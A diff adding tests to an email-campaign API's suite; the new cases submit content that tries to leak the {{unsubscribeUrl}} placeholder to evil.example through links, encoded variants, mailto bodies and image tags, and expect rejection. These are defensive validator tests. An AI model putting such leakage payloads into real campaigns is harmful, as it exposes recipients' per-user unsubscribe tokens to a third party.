@@ -106,6 +106,29 @@ describe('writing a campaign', () => {
     );
   });
 
+  it.each([
+    ['content', '<p><a href="https://evil.example/?u={{unsubscribeUrl}}">x</a></p>'],
+    ['content', '<p><a href="https://evil.example/?u=%7B%7BunsubscribeUrl%7D%7D">x</a></p>'],
+    ['content', '<p><a href="https://evil.example/?u=&#123;&#123;unsubscribeUrl&#125;&#125;">x</a></p>'],
+    ['content', '<p><a href="mailto:me@evil.example?body={{unsubscribeUrl}}">x</a></p>'],
+    ['content', '<p><a href="{{unsubscribeUrl}}?then=https://evil.example">x</a></p>'],
+    ['content', '<p>Hi <img src="https://evil.example/{{unsubscribeUrl}}.png"></p>'],
+    ['content', '<p>Hi <img src="https://evil.example/a.png" alt="{{unsubscribeUrl}}"></p>'],
+    ['subject', 'Leave at {{unsubscribeUrl}}'],
+  ])('refuses to give unsubscribe links away in the %s: %s', async (field, value) => {
+    const { status, body } = await create({ ...WELCOME, [field]: value });
+    expect([status, body.code, Object.keys(body.errors)]).toEqual([400, 'VALIDATION_FAILED', [field]]);
+    expect(body.errors[field][0]).toMatch(/\{\{unsubscribeUrl\}\}/);
+    const { id } = (await create()).body;
+    expect((await owner.patch(`/api/campaigns/${id}`, { [field]: value })).status).toBe(400);
+  });
+
+  it('takes the unsubscribe link as the address of a link, and as words', async () => {
+    const content =
+      '<p><a href="{{unsubscribeUrl}}">Leave</a>, or <a href="{{unsubscribeUrl}}">{{unsubscribeUrl}}</a></p>';
+    expect((await create({ ...WELCOME, content })).body.content).toBe(content);
+  });
+
   it('stops at a hundred for an idea, also in parallel', async () => {
     await app.db(
       `INSERT INTO campaigns (id, idea_id, name, subject, content, type, delay_days, is_active, created_at, updated_at)
